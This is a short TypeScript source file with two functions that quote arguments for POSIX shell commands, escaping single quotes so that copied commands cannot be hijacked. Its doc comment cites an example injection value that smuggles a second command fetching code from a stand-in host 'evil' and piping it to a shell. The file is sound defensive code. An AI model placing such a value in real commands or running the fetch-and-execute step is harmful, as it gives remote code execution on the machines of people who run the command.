/**
 * One argument of a POSIX shell command, whatever it holds (POSIX 2.2.2: nothing is special between
 * single quotes). Attack: a tag or identity such as `x; curl evil|sh` in a command that people copy.
 */
export function shellQuoted(argument: string): string {
  if (/^[A-Za-z0-9_./-][A-Za-z0-9_@%+=:,./-]*$/.test(argument)) return argument;
  return `'${argument.replaceAll("'", `'\\''`)}'`;
}

export function shellCommand(...words: readonly string[]): string {
  return words.map(shellQuoted).join(' ');
}
